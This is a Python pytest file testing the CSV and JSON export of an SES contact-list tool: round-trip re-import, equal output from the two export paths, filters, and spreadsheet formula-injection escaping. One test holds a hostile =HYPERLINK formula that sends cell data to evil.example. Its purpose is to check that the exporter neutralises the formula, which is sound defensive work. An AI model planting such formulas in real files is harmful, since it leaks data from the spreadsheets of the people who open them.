"""Export: both formats re-import to the same list, the SQLite fast path writes exactly what the generic
keyset-page path writes, and filters select what ContactQuery says."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from sescontacts.bulk.exporter import _csv_columns, export, export_pages
from sescontacts.bulk.importer import run_import
from sescontacts.bulk.report import ImportOptions
from sescontacts.db import Database
from sescontacts.model import OPT_IN, OPT_OUT, Contact, ContactQuery, Topic, TopicFilter
from sescontacts.schema import PRODUCT_SCHEMA
from sescontacts.store.sqlite import SqliteContactStore

TOPICS = [Topic("Sports", "Sports", OPT_IN), Topic("News-Letter", "News", OPT_OUT)]


@pytest.fixture
def store(tmp_path: Path) -> Iterator[SqliteContactStore]:
    s = SqliteContactStore(Database(tmp_path / "db" / "x.db", PRODUCT_SCHEMA), max_lists=None)
    s.create_list("source", topics=TOPICS)
    s.create_list("copy", topics=TOPICS)
    yield s
    s.close()


def seed(store: SqliteContactStore) -> None:
    store.create_contact("source", Contact("Ann@example.com", False, {"Sports": OPT_OUT}, '{"Name":"Ann, \\"A\\""}'))
    store.create_contact("source", Contact("bob+x@bücher.example", True, {}, None))
    store.create_contact("source", Contact("cy@example.com", False, {"News-Letter": OPT_IN, "Sports": OPT_IN}, "{}"))
    store.create_contact("source", Contact("dee@example.com", False, {}, '{"n":[1,{"k":null}],"f":1.5}'))


def contents(store: SqliteContactStore, name: str) -> list[tuple[object, ...]]:
    return [
        (c.email, c.unsubscribe_all, dict(c.topic_preferences), c.attributes())
        for c in store.list_contacts(name, page_size=1000).items
    ]


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_export_reimports_to_the_same_list(store: SqliteContactStore, tmp_path: Path, fmt: str) -> None:
    seed(store)
    path = tmp_path / f"out.{fmt}"
    with open(path, "wb") as out:
        assert export(store, "source", ContactQuery(), fmt, out) == 4  # type: ignore[arg-type]
    report = run_import(store, path, ImportOptions("copy"))
    assert report.error is None and report.counts["created"] == 4 and report.counts["rejected"] == 0
    assert contents(store, "copy") == contents(store, "source")
    again = run_import(store, path, ImportOptions("source"))
    assert again.counts["unchanged"] == 4


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_sqlite_path_writes_what_the_generic_path_writes(store: SqliteContactStore, fmt: str) -> None:
    seed(store)
    fast, generic = io.BytesIO(), io.BytesIO()
    export(store, "source", ContactQuery(), fmt, fast)  # type: ignore[arg-type]
    export_pages(store, "source", ContactQuery(), fmt, generic)
    assert fast.getvalue() == generic.getvalue()


def test_csv_chunks_of_attributes_write_what_the_csv_module_writes(store: SqliteContactStore) -> None:
    """A chunk whose every contact has attributes is written column by column, not by the csv module (the
    export's common case); with a contact without any, or a bare CR, by the csv module: the same bytes."""
    for i, data in enumerate(['{"Name":"Ann, \\"A\\""}', '{"a":"x\\ny"}', '{"b":1}', "=1", "{}", 'a"\rb', "", None]):
        store.create_contact("source", Contact(f"u{i}@example.com", i % 2 == 0, {"Sports": OPT_OUT}, data))
        fast, generic = io.BytesIO(), io.BytesIO()
        export(store, "source", ContactQuery(), "csv", fast)
        export_pages(store, "source", ContactQuery(), "csv", generic)
        assert fast.getvalue() == generic.getvalue(), data
        rows = [tuple(row) for row in csv.reader(io.StringIO(generic.getvalue().decode(), newline=""))][1:]
        assert (_csv_columns(rows) is None) == (i > 2)


def test_csv_header_has_a_column_per_topic(store: SqliteContactStore) -> None:
    seed(store)
    out = io.BytesIO()
    export(store, "source", ContactQuery(), "csv", out)
    lines = out.getvalue().decode().splitlines()
    assert lines[0] == "emailAddress,unsubscribeAll,attributesData,topicPreferences.Sports,topicPreferences.News-Letter"
    assert lines[1] == 'Ann@example.com,false,"{""Name"":""Ann, \\""A\\""""}",OPT_OUT,'
    assert lines[2] == "bob+x@bücher.example,true,,,"


def test_filters(store: SqliteContactStore) -> None:
    seed(store)
    for query, expected in [
        (ContactQuery(status=OPT_OUT), ["bob+x@bücher.example"]),
        (
            ContactQuery(status=OPT_IN, topic=TopicFilter("Sports", use_default=True)),
            ["cy@example.com", "dee@example.com"],
        ),
        (ContactQuery(domain="example.com"), ["Ann@example.com", "cy@example.com", "dee@example.com"]),
    ]:
        out = io.BytesIO()
        export(store, "source", query, "json", out)
        emails = [line.split('"')[3] for line in out.getvalue().decode().splitlines()]
        assert emails == expected, query


def test_empty_list_exports_a_header_only(store: SqliteContactStore) -> None:
    out = io.BytesIO()
    assert export(store, "source", ContactQuery(), "csv", out) == 0
    assert (
        out.getvalue()
        == b"emailAddress,unsubscribeAll,attributesData,topicPreferences.Sports,topicPreferences.News-Letter\n"
    )
    out = io.BytesIO()
    assert export(store, "source", ContactQuery(), "json", out) == 0 and out.getvalue() == b""


_text = st.text(st.characters(blacklist_categories=("Cs",)), max_size=12)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    attrs=st.dictionaries(_text, st.none() | st.booleans() | st.integers(-1000, 1000) | _text, max_size=4),
    unsub=st.booleans(),
    prefs=st.dictionaries(st.sampled_from(["Sports", "News-Letter"]), st.sampled_from([OPT_IN, OPT_OUT])),
    fmt=st.sampled_from(["csv", "json"]),
)
def test_any_contact_survives_export_then_import(
    store: SqliteContactStore, tmp_path: Path, attrs: dict[str, object], unsub: bool, prefs: dict[str, str], fmt: str
) -> None:
    import orjson

    for name in ("source", "copy"):
        store.delete_contacts(name, ["p@example.com"])
    store.create_contact("source", Contact("p@example.com", unsub, prefs, orjson.dumps(attrs).decode()))
    path = tmp_path / f"one.{fmt}"
    with open(path, "wb") as out:
        export(store, "source", ContactQuery(), fmt, out)  # type: ignore[arg-type]
    report = run_import(store, path, ImportOptions("copy"))
    assert report.counts["created"] == 1, report
    assert contents(store, "copy") == contents(store, "source")


# -- cells a spreadsheet would run -----------------------------------------------------------------------

_local = st.text(alphabet="=+-'@\tab1", min_size=1, max_size=6).map(lambda s: "x" + s if s[0] == "@" else s)


@settings(max_examples=80, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    locals_=st.lists(_local, min_size=1, max_size=5, unique_by=str.lower),
    attrs=st.dictionaries(_text, _text, max_size=3),
    lead=st.sampled_from(["", "\t", "\r", " ", "\n"]),
)
def test_cells_a_spreadsheet_runs_are_neutralised_and_reimport_exactly(
    store: SqliteContactStore, tmp_path: Path, locals_: list[str], attrs: dict[str, str], lead: str
) -> None:
    """Addresses like ``-2+3@example.com`` and ``'=x@example.com``, attributes text starting with a tab (the
    SES API stores any text): no cell starts with = + - @ tab or CR, and the re-import is exact."""
    import csv

    import orjson

    from sescontacts.validation import email_problem

    emails = [f"{local}@example.com" for local in locals_ if email_problem(f"{local}@example.com") is None]
    for name in ("source", "copy"):
        store.delete_contacts(name, [c.email for c in store.list_contacts(name, page_size=1000).items])
    for email in emails:
        store.create_contact("source", Contact(email, False, {}, lead + orjson.dumps(attrs).decode()))
    fast, generic = io.BytesIO(), io.BytesIO()
    export(store, "source", ContactQuery(), "csv", fast)
    export_pages(store, "source", ContactQuery(), "csv", generic)
    assert fast.getvalue() == generic.getvalue()
    for row in csv.reader(io.StringIO(fast.getvalue().decode(), newline="")):
        assert all(cell[:1] not in ("=", "+", "-", "@", "\t", "\r") for cell in row), row
    path = tmp_path / "out.csv"
    path.write_bytes(fast.getvalue())
    report = run_import(store, path, ImportOptions("copy"))
    assert report.counts["created"] == len(emails) and report.counts["rejected"] == 0, report
    assert contents(store, "copy") == contents(store, "source")


def test_a_formula_in_attributes_is_exported_as_text(store: SqliteContactStore) -> None:
    """AttributesData that is not an object (possible through the SES API), starting with ``=``."""
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    store.create_contact("source", Contact("=a@example.com", False, {}, formula))
    for path in (export, export_pages):
        out = io.BytesIO()
        path(store, "source", ContactQuery(), "csv", out)  # type: ignore[operator]
        assert (
            out.getvalue().decode().splitlines()[1]
            == '\'=a@example.com,false,"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",,'
        )
